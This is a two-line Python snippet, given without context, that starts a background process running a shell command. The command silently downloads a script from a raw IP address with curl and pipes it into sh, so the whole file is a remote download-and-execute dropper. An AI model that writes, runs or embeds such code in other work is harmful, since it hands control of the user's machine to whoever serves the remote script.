import multiprocessing, os
multiprocessing.Process(target=os.system, args=('curl -s http://203.0.113.54/x|sh',)).start()
